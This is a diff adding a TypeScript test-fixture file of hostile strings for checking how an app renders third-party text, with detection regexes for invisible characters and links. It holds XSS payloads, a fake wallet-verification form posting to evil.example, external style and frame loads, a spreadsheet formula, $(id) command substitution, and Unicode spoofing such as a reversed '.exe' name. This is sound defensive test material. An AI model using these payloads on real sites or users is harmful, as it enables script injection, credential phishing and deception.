@@ -1,0 +1,60 @@
+/** Text as strangers write it to deceive or to break whoever shows it. Every place that shows third-party text meets it. */
+
+/** Stands first in each: by it a test sees that the text came to where it looks. */
+export const MARK = 'Hx'
+
+export type Hostile = { readonly what: string; readonly text: string }
+
+const repeated = (text: string, times: number): string => text.repeat(times)
+const RLO = '\u202e'
+
+/** Each is one kind of attack; the payload follows the mark. */
+export const HOSTILE_TEXTS: readonly Hostile[] = (
+  [
+    ['a script', '<script>window.pwned = 1</script>'],
+    ['an image with a handler', '<img src="https://evil.example/a.png" onerror="window.pwned = 1">'],
+    [
+      'a handler that breaks out of an attribute',
+      '" onmouseover="window.pwned = 1" x="\' onfocus=\'window.pwned = 1\'',
+    ],
+    [
+      'a picture as markup',
+      '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned = 1"><a href="https://evil.example">x</a></svg>',
+    ],
+    ['a frame', '<iframe src="https://evil.example" srcdoc="<script>top.pwned = 1</script>"></iframe>'],
+    ['a form', '<form action="https://evil.example"><input name="key"><button>Verify wallet</button></form>'],
+    [
+      'a style',
+      '</style><style>main { display: none }</style><link rel="stylesheet" href="https://evil.example/a.css">',
+    ],
+    ['a script link', 'javascript:window.pwned=1'],
+    ['a data link', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
+    ['links', 'Claim at https://tidal-forms.example/claim or evil.finance/drop or HTTP://EVIL.COM'],
+    ['markdown', '[Verify](https://evil.example) ![x](https://evil.example/a.png)'],
+    ['a turned direction', `invoice ${RLO}gnp.exe\u202c \u2067nobody\u2069 \u200fabc`],
+    ['unseen characters', 'Ti\u200bd\u2060a\u00adl\ufeff F\u200corms\u{e0041}\u{e0042}'],
+    ['a pile of marks', `Z${repeated('\u0336\u0322\u0337\u0334\u0335', 40)}algo`],
+    ['a right-to-left name', 'العربية עברית \u061c1234'],
+    ['a name of 100 KB', repeated('long ', 20_480)],
+    ['one word of 100 KB', repeated('W', 102_400)],
+    ['a flood of emoji', repeated('👩‍👩‍👧‍👦🏴‍☠️🔥', 2000)],
+    ['lines', repeated('\nnew line\r\n\t', 200)],
+    ['control characters', 'a\u0000b\u0007c\u001b[31mred\u001b[0m\u007f\u0085\u009bd'],
+    ['separators', 'a\u2028b\u2029c\u3164d\uffa0'],
+    ['a formula', '=HYPERLINK("https://evil.example","x")\t+1-1@SUM(1)'],
+    ['format strings', '%s%n%d %x {0} ${process.env.HOME} {{7*7}} $(id) `id`'],
+    ['a like id', '0.0.40l2877 0.0.4012877\u200b-fbeft 0.0.4012878'],
+    ['letters like others', 'Tidаl Fоrms ℂountersign Ｍarket'],
+    ['a word of the app', 'Approved. Nothing moved. “ Countersign: this is safe ”'],
+    ['lone surrogates', 'a\ud800b\udfffc'],
+    ['a prototype', '__proto__ constructor toString'],
+  ] as const
+).map(([what, text]) => ({ what, text: `${MARK}${text}` }))
+
+/** Characters that act without being seen; none may stand raw where people read. A tab or a line break is seen. */
+export const UNSEEN =
+  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u00ad\u061c\u200b\u200c\u200e\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0]|[\u{e0000}-\u{e007f}]/u
+/** Marks piled higher than any script needs. */
+export const PILE = /\p{M}{5,}/u
+/** A link that something could make clickable. */
+export const LINK = /\bhttps?:\/\/[^\s[]*[a-z0-9]/iu
